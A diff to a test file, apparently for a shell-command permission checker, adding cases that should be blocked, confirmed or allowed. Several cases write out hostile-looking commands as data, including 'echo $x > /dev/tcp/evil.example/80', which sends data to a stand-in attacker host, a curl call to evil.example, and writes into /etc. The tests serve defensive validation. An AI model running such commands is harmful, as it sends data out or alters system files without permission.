@@ -210,6 +210,10 @@ def test_a_command_that_is_written_out_is_certain_among_open_words(push: Authori
         ("echo $x > /etc/y", BLOCK, "no-write"),
         ("for f in a; do tee /etc/$f < /etc/x > /etc/z; done", BLOCK, "no-write"),
         ("curl https://evil.example; ls $x", BLOCK, "no-host"),
+        ("echo $x > /dev/tcp/evil.example/80", BLOCK, "no-host"), ("echo a > /dev/tcp/$h/80", CONFIRM, "no-host"),
+        ("cat < /dev/tcp/a$h/80", CONFIRM, "no-host"), ('echo a > "/dev/$x/evil.example/80"', CONFIRM, "no-write"),
+        ("cat < $x", CONFIRM, "no-host"), ("echo a > /dev/udp/localhost/$port", ALLOW, None),
+        ("cat < ./$x", ALLOW, None),
     ],
 )  # fmt: skip
 def test_an_open_path_is_meant_by_what_happens_to_it(
